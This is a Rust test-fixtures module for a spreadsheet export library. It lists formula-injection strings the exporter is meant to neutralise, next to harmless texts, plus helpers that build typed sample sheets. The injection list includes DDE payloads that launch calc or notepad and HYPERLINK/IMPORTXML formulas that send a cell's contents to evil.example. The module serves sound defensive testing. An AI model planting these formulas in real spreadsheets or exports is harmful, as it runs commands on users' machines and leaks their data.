//! Tables for the tests.

use tatami_export::{Cell, Column, Format, Kind, Options, Sheet, write};

/// Texts that spreadsheets may run, or that slip past a check of the first byte alone.
pub const INJECTIONS: [&str; 20] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "  =1+1",
    "\u{0}=1+1",
    "\u{feff}=1+1",
    "\u{a0}+1",
    "＝1+1",
];

/// Texts that stay as they are.
pub const HARMLESS: [&str; 8] = [
    "a=1",
    "'quoted'",
    "say \"hello\", and go\r\n on",
    "مرحبا بالعالم",
    "👩‍💻 ünïcödé 漢字",
    "1,5",
    "true",
    "_x0041_ & <b>",
];

pub fn column(name: &str, kind: Kind) -> Column {
    Column::new(name, kind)
}

pub fn text(text: &str) -> Cell {
    Cell::Text(text.to_owned())
}

/// A table of one column of texts.
pub fn texts<'t>(
    texts: impl IntoIterator<Item = &'t str>,
) -> Sheet<impl IntoIterator<Item = Vec<Cell>>> {
    Sheet {
        name: "Texts".to_owned(),
        columns: vec![column("text", Kind::Text)],
        rows: texts.into_iter().map(|t| vec![text(t)]).collect::<Vec<_>>(),
    }
}

/// A table with a column of each kind, a row of values and a row of empty cells.
pub fn typed() -> Sheet<Vec<Vec<Cell>>> {
    let columns = vec![
        column("text", Kind::Text),
        column("integer", Kind::Integer),
        column("number", Kind::Number),
        column("percent", Kind::Percent),
        column("bool", Kind::Bool),
        column("date", Kind::Date),
        column("moment", Kind::DateTime),
        column("link", Kind::Link),
    ];
    let row = vec![
        text("007"),
        Cell::Integer(-42),
        Cell::Number(-1.25),
        Cell::Percent(0.375),
        Cell::Bool(true),
        Cell::Date("2026-02-28".parse().unwrap()),
        Cell::DateTime("2026-11-30T16:26:28Z".parse().unwrap()),
        Cell::Link("https://tatami.example/finding/7?a=1&b=2".to_owned()),
    ];
    let empty = vec![Cell::Empty; columns.len()];
    Sheet {
        name: "Typed".to_owned(),
        columns,
        rows: vec![row, empty],
    }
}

pub fn export<R: IntoIterator<Item = Vec<Cell>>>(format: Format, sheet: Sheet<R>) -> Vec<u8> {
    write(format, &Options::default(), Vec::new(), [sheet]).unwrap()
}
